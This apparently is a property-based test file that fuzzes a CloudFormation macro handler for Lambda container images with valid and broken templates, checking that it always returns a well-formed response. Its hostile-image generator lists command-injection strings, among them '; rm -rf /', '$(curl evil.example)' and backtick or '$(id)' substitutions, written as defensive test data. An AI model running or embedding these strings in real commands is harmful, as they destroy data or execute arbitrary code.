// Property: whatever template (valid or broken) and whatever event arrives, the handler answers
// with a well-formed macro response and never throws.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createMacroHandler, type MacroResponse } from '../../../src/macro/handler.js';
import type { Json } from '../../../src/template/types.js';
import { ACCOUNT, MACRO_ENV, REGION, mirrorIds, recordingLog } from './fixtures.js';
import { propertyRuns } from '../../support/property-runs.js';

const RUNS = propertyRuns(2500);

const PARAMETER_NAMES = ['PatcherImage', 'Tag', 'Repo', 'Region', 'Missing'] as const;
const CONDITION_NAMES = ['IsProd', 'IsArm', 'Undeclared'] as const;

const validImage = fc.constantFrom(
  'quay.io/sysdig/serverless-patcher:5.0.1',
  'nginx',
  'library/python:3.12',
  'amazon/aws-lambda-python:3.12',
  `docker.io/library/alpine@sha256:${'a'.repeat(64)}`,
  'public.ecr.aws/lambda/nodejs:20',
  'ghcr.io/org/tool:v1',
  'localhost:5000/team/app:dev',
  '518078317392.dkr.ecr.eu-west-1.amazonaws.com/compose-x-macro:nightly',
  `${ACCOUNT}.dkr.ecr.${REGION}.amazonaws.com/team/app:1.2.3`,
  `${ACCOUNT}.dkr.ecr-fips.${REGION}.amazonaws.com/team/app:1`,
  '111122223333.dkr.ecr.cn-north-1.amazonaws.com.cn/app:1',
);

const hostileImage = fc.oneof(
  fc.constantFrom(
    '',
    ' ',
    'quay.io/sysdig/patcher:5.0.1; rm -rf /',
    '$(curl evil.example)',
    '`id`',
    'quay.io/a\nb',
    'quay.io/x:tag\u0000',
    'quay.io/x@sha256:zz',
    'a@b@c',
    'UPPER/case',
    'quay.io//double',
    '[::1]:5000/x',
    'host:99999/x',
    '\u202equay.io/x',
    'x'.repeat(3000),
    `${'a/'.repeat(200)}b`,
    '${AWS::Region}',
    'arn:aws:ecr:us-east-1:123456789012:repository/x',
  ),
  fc.string({ maxLength: 80 }),
  fc.string({ unit: 'binary', maxLength: 40 }),
);

const imageString = fc.oneof({ weight: 3, arbitrary: validImage }, { weight: 2, arbitrary: hostileImage });

/** Intrinsic-shaped values: sensible ones and broken ones (wrong arity, wrong types, unknown names). */
const intrinsic: fc.Arbitrary<Json> = fc.letrec<{ value: Json }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    imageString,
    fc.constantFrom(...PARAMETER_NAMES, 'AWS::Region', 'AWS::AccountId', 'AWS::URLSuffix', 'AWS::NoValue', 'AWS::StackName').map((name) => ({ Ref: name })),
    fc.tuple(imageString, fc.constantFrom('${AWS::AccountId}', '${AWS::Region}', '${Tag}', '${Missing}', '${!Literal}', '${')).map(([a, b]) => ({
      'Fn::Sub': `${a}${b}`,
    })),
    fc.tuple(fc.string({ maxLength: 20 }), fc.dictionary(fc.constantFrom('a', 'Tag', 'x'), tie('value'), { maxKeys: 2 })).map(([text, vars]) => ({
      'Fn::Sub': [`${text}\${a}`, vars],
    })),
    fc.tuple(fc.constantFrom('', ':', '/'), fc.array(tie('value'), { maxLength: 3 })).map(([sep, parts]) => ({ 'Fn::Join': [sep, parts] })),
    fc.tuple(fc.constantFrom(...CONDITION_NAMES), tie('value'), tie('value')).map(([condition, a, b]) => ({ 'Fn::If': [condition, a, b] })),
    fc.tuple(fc.constantFrom('Images', 'Nope'), fc.constantFrom('Prod', 'x'), fc.constantFrom('Uri', 'y')).map((path) => ({ 'Fn::FindInMap': path })),
    fc.tuple(fc.integer({ min: -1, max: 3 }), fc.array(tie('value'), { maxLength: 3 })).map(([index, list]) => ({ 'Fn::Select': [index, list] })),
    fc.constantFrom<Json>(
      { 'Fn::GetAtt': ['ImageMirrordeadbeef', 'ImageUri'] },
      { 'Fn::GetAtt': ['Other', 'Arn'] },
      { 'Fn::ImportValue': 'Shared-Image' },
      { Ref: ['not', 'a', 'string'] },
      { 'Fn::Sub': 42 },
      { 'Fn::If': 'broken' },
      { 'Fn::Join': ['x'] },
      { 'Fn::Unknown': 'x' },
      { Ref: 'PatcherImage', Extra: 1 },
    ),
    fc.jsonValue({ maxDepth: 2 }) as fc.Arbitrary<Json>,
  ),
})).value;

const architectures: fc.Arbitrary<Json | undefined> = fc.oneof(
  fc.constant(undefined),
  fc.constantFrom<Json>(
    ['x86_64'],
    ['arm64'],
    [],
    ['x86_64', 'arm64'],
    ['sparc'],
    'arm64',
    null,
    { Ref: 'Arch' },
    [{ Ref: 'Arch' }],
    [{ 'Fn::If': ['IsArm', 'arm64', 'x86_64'] }],
  ),
  fc.jsonValue({ maxDepth: 1 }) as fc.Arbitrary<Json>,
);

const options: fc.Arbitrary<Json | undefined> = fc.oneof(
  fc.constant(undefined),
  fc.record(
    {
      Skip: fc.oneof(fc.boolean(), fc.constantFrom<Json>('true', 'no', 1, null)),
      RepositoryPrefix: fc.oneof(fc.constantFrom<Json>('team/mirrors', 'UPPER', '', 'a'.repeat(240), 'x//y', 5)),
      Architecture: fc.constantFrom<Json>('x86_64', 'arm64', 'amd64', ['arm64'], null),
      ServiceTimeout: fc.constantFrom<Json>(1, 3600, 0, 3601, '900', 'soon', 1.5, -3),
      Unknown: fc.jsonValue({ maxDepth: 1 }) as fc.Arbitrary<Json>,
    },
    { requiredKeys: [] },
  ),
  fc.jsonValue({ maxDepth: 2 }) as fc.Arbitrary<Json>,
);

const metadata = options.map((value) => (value === undefined ? undefined : { SysdigImageFix: value }));

function withOptional(base: Record<string, Json>, extra: Record<string, Json | undefined>): Record<string, Json> {
  for (const [key, value] of Object.entries(extra)) if (value !== undefined) base[key] = value;
  return base;
}

const lambdaFunction = fc
  .record({ image: intrinsic, architectures, metadata, condition: fc.option(fc.constantFrom(...CONDITION_NAMES), { nil: undefined }) })
  .map(({ image, architectures: arch, metadata: meta, condition }) =>
    withOptional(
      { Type: 'AWS::Lambda::Function', Properties: withOptional({ PackageType: 'Image', Code: { ImageUri: image } }, { Architectures: arch }) },
      { Metadata: meta, Condition: condition },
    ),
  );

const samFunction = fc
  .record({ image: intrinsic, architectures, metadata })
  .map(({ image, architectures: arch, metadata: meta }) =>
    withOptional({ Type: 'AWS::Serverless::Function', Properties: withOptional({ ImageUri: image }, { Architectures: arch }) }, { Metadata: meta }),
  );

const brokenResource: fc.Arbitrary<Json> = fc.oneof(
  fc.constantFrom<Json>(
    null,
    'AWS::Lambda::Function',
    [],
    { Type: 'AWS::Lambda::Function' },
    { Type: 'AWS::Lambda::Function', Properties: null },
    { Type: 'AWS::Lambda::Function', Properties: { Code: 'quay.io/x:1' } },
    { Type: 'AWS::Lambda::Function', Properties: { Code: { ImageUri: null } } },
    { Type: 'AWS::Lambda::Function', Properties: { Code: { 'Fn::If': ['IsProd', { ImageUri: 'quay.io/x:1' }, { ZipFile: 'x' }] } } },
    { Type: 'AWS::Serverless::Function', Properties: [] },
    { Type: 'AWS::Serverless::Function', Properties: { ImageUri: { 'Fn::GetAtt': 'Broken' } } },
    { Type: 'Custom::ImageMirror', Properties: {} },
    { Type: 7 },
  ),
  fc.record({ Type: fc.constantFrom('AWS::S3::Bucket', 'AWS::ECS::TaskDefinition', 'Custom::Thing'), Properties: fc.jsonValue({ maxDepth: 2 }) }) as fc.Arbitrary<Json>,
);

const logicalId = fc.oneof(
  fc.constantFrom('Patcher', 'Worker', 'Api', 'ImageMirrordeadbeef', 'ImageMirror00000000'),
  fc.stringMatching(/^[A-Za-z][A-Za-z0-9]{0,12}$/),
  fc.string({ maxLength: 12 }),
);

const anyResources = fc.dictionary(
  logicalId,
  fc.oneof({ weight: 3, arbitrary: lambdaFunction }, { weight: 2, arbitrary: samFunction }, { weight: 2, arbitrary: brokenResource }),
  {
    maxKeys: 6,
  },
);

/** Templates a user could really deploy: valid images and options, the usual intrinsics. */
const cleanImage: fc.Arbitrary<Json> = fc.oneof(
  validImage,
  fc.constantFrom<Json>(
    { Ref: 'PatcherImage' },
    { Ref: 'Missing' },
    { 'Fn::Sub': '${AWS::AccountId}.dkr.ecr.${AWS::Region}.${AWS::URLSuffix}/team/app:${Tag}' },
    { 'Fn::Sub': 'quay.io/sysdig/serverless-patcher:${Tag}' },
    { 'Fn::Join': ['', ['ghcr.io/org/', 'tool:v1']] },
    { 'Fn::If': ['IsProd', 'quay.io/org/app:1', { Ref: 'AWS::NoValue' }] },
    { 'Fn::FindInMap': ['Images', 'Prod', 'Uri'] },
  ),
);
const cleanOptions = fc.option(
  fc
    .record(
      {
        Skip: fc.boolean(),
        RepositoryPrefix: fc.constantFrom('team/mirrors', 'sysdig-image-fix'),
        Architecture: fc.constantFrom('x86_64', 'arm64'),
        ServiceTimeout: fc.integer({ min: 1, max: 3600 }),
      },
      { requiredKeys: [] },
    )
    .map((value) => ({ SysdigImageFix: value })),
  { nil: undefined },
);
const cleanArchitectures = fc.constantFrom<Json | undefined>(undefined, ['x86_64'], ['arm64']);
const cleanFunction = fc
  .record({ sam: fc.boolean(), image: cleanImage, architectures: cleanArchitectures, metadata: cleanOptions })
  .map(({ sam, image, architectures: arch, metadata: meta }) =>
    sam
      ? withOptional({ Type: 'AWS::Serverless::Function', Properties: withOptional({ PackageType: 'Image', ImageUri: image }, { Architectures: arch }) }, { Metadata: meta })
      : withOptional(
          { Type: 'AWS::Lambda::Function', Properties: withOptional({ PackageType: 'Image', Code: { ImageUri: image } }, { Architectures: arch }) },
          { Metadata: meta },
        ),
  );
const cleanTemplate = fc.record({
  Parameters: fc.constant({ PatcherImage: { Type: 'String', Default: 'quay.io/sysdig/serverless-patcher:5.0.1' }, Tag: { Type: 'String' }, Missing: { Type: 'String' } }),
  Conditions: fc.constant({ IsProd: { 'Fn::Equals': [{ Ref: 'Tag' }, 'prod'] } }),
  Mappings: fc.constant({ Images: { Prod: { Uri: 'ghcr.io/org/tool:v1' } } }),
  Resources: fc.dictionary(fc.stringMatching(/^[A-Z][A-Za-z0-9]{0,10}$/), cleanFunction, { minKeys: 1, maxKeys: 5 }),
});

const messyTemplate = fc.record(
  {
    Resources: fc.oneof({ weight: 9, arbitrary: anyResources as fc.Arbitrary<unknown> }, { weight: 1, arbitrary: fc.constantFrom<unknown>(null, [], 'x', 0) }),
    Parameters: fc.oneof(
      fc.constant({ PatcherImage: { Type: 'String', Default: 'quay.io/sysdig/serverless-patcher:5.0.1' }, Tag: { Type: 'String' }, Arch: { Type: 'String' } }),
      fc.jsonValue({ maxDepth: 2 }),
    ),
    Conditions: fc.oneof(fc.constant({ IsProd: { 'Fn::Equals': [{ Ref: 'Tag' }, 'prod'] }, IsArm: { 'Fn::Equals': ['a', 'a'] } }), fc.jsonValue({ maxDepth: 2 })),
    Mappings: fc.oneof(fc.constant({ Images: { Prod: { Uri: 'ghcr.io/org/tool:v1' } } }), fc.jsonValue({ maxDepth: 3 })),
    Globals: fc.oneof(fc.record({ Function: fc.record({ Architectures: architectures }, { requiredKeys: [] }) }), fc.jsonValue({ maxDepth: 2 })),
    Metadata: metadata,
  },
  { requiredKeys: ['Resources'] },
);

const template: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: cleanTemplate },
  { weight: 4, arbitrary: messyTemplate },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 1, arbitrary: fc.anything() },
);

const parameterValues: fc.Arbitrary<unknown> = fc.oneof(
  {
    weight: 3,
    arbitrary: fc.record(
      { PatcherImage: validImage, Tag: fc.constantFrom('prod', '5.0.1', 'latest'), Region: fc.constantFrom(REGION, 'eu-west-1'), Arch: fc.constantFrom('arm64', 'x86_64') },
      { requiredKeys: [] },
    ),
  },
  {
    weight: 1,
    arbitrary: fc.record(
      {
        PatcherImage: imageString,
        Tag: fc.constantFrom('bad tag', '', '$(id)'),
        Repo: fc.constantFrom('sysdig/serverless-patcher', 'UPPER'),
        Arch: fc.constantFrom('mips', ''),
      },
      { requiredKeys: [] },
    ),
  },
  { weight: 1, arbitrary: fc.constantFrom<unknown>(undefined, null, [], 'x') },
);

/** Mostly valid envelopes around the random template; sometimes any value at all. */
const event: fc.Arbitrary<unknown> = fc.oneof(
  {
    weight: 9,
    arbitrary: fc.record(
      {
        region: fc.oneof({ weight: 8, arbitrary: fc.constant(REGION) }, { weight: 1, arbitrary: fc.constantFrom<unknown>('us-east-1', 'cn-north-1', '', 'mars', 1) }),
        accountId: fc.oneof({ weight: 8, arbitrary: fc.constant(ACCOUNT) }, { weight: 1, arbitrary: fc.constantFrom<unknown>('12', null) }),
        fragment: template,
        transformId: fc.constant(`${ACCOUNT}::SysdigImageFix`),
        params: fc.constant({}),
        requestId: fc.oneof({ weight: 8, arbitrary: fc.uuid() }, { weight: 1, arbitrary: fc.constantFrom<unknown>('', 5, null) }),
        templateParameterValues: parameterValues,
      },
      { requiredKeys: ['region', 'accountId', 'fragment', 'requestId'] },
    ),
  },
  { weight: 1, arbitrary: fc.anything() },
);

const environment = fc.oneof(
  { weight: 8, arbitrary: fc.constant<Record<string, string | undefined>>(MACRO_ENV) },
  {
    weight: 1,
    arbitrary: fc.record(
      {
        MIRROR_FUNCTION_ARN: fc.constantFrom(MACRO_ENV.MIRROR_FUNCTION_ARN, '', 'nope'),
        REPOSITORY_PREFIX: fc.constantFrom('team/mirrors', 'BAD', ''),
        SERVICE_TIMEOUT: fc.constantFrom('60', '0', 'x', ''),
      },
      { requiredKeys: [] },
    ),
  },
);

function expectWellFormed(response: MacroResponse, sentEvent: unknown): void {
  const sentRequestId = typeof sentEvent === 'object' && sentEvent !== null ? (sentEvent as { requestId?: unknown }).requestId : undefined;
  expect(response.requestId).toBe(typeof sentRequestId === 'string' ? sentRequestId : '');
  if (response.status === 'success') {
    expect(Object.keys(response).sort()).toEqual(['fragment', 'requestId', 'status']);
    expect(typeof response.fragment).toBe('object');
    expect(response.fragment).not.toBeNull();
    expect(Array.isArray(response.fragment)).toBe(false);
  } else {
    expect(response.status).toBe('failure');
    expect(Object.keys(response).sort()).toEqual(['errorMessage', 'requestId', 'status']);
    expect(typeof response.errorMessage).toBe('string');
    expect(response.errorMessage.length).toBeGreaterThan(0);
  }
  // CloudFormation reads the answer as JSON.
  expect(() => JSON.stringify(response)).not.toThrow();
}

describe('Function: handler (property)', () => {
  it(`answers ${RUNS} random events (valid and broken templates, hostile images) with a well-formed response`, async () => {
    let successes = 0;
    let failures = 0;
    let mirrored = 0;
    await fc.assert(
      fc.asyncProperty(event, environment, async (sentEvent, env) => {
        const log = recordingLog();
        const response = await createMacroHandler({ env: () => env, log })(sentEvent);
        expectWellFormed(response, sentEvent);
        if (response.status === 'success') {
          successes++;
          if (mirrorIds(response.fragment).length > 0) mirrored++;
        } else failures++;
      }),
      { numRuns: RUNS },
    );
    // Both branches must really be exercised, or the generators have drifted into one corner.
    expect(successes).toBeGreaterThan(RUNS / 20);
    expect(failures).toBeGreaterThan(RUNS / 20);
    expect(mirrored).toBeGreaterThan(RUNS / 50);
  });

  it('never reports an internal error for random well-formed events with a valid environment', async () => {
    await fc.assert(
      fc.asyncProperty(
        template.filter((value) => typeof value === 'object' && value !== null && !Array.isArray(value)),
        parameterValues,
        async (fragment, values) => {
          const response = await createMacroHandler({ env: () => MACRO_ENV, log: recordingLog() })({
            region: REGION,
            accountId: ACCOUNT,
            fragment,
            transformId: `${ACCOUNT}::SysdigImageFix`,
            params: {},
            requestId: 'property-request',
            templateParameterValues: values,
          });
          expectWellFormed(response, { requestId: 'property-request' });
          if (response.status === 'failure') expect(response.errorMessage).not.toMatch(/internal error/i);
        },
      ),
      { numRuns: RUNS },
    );
  });
});
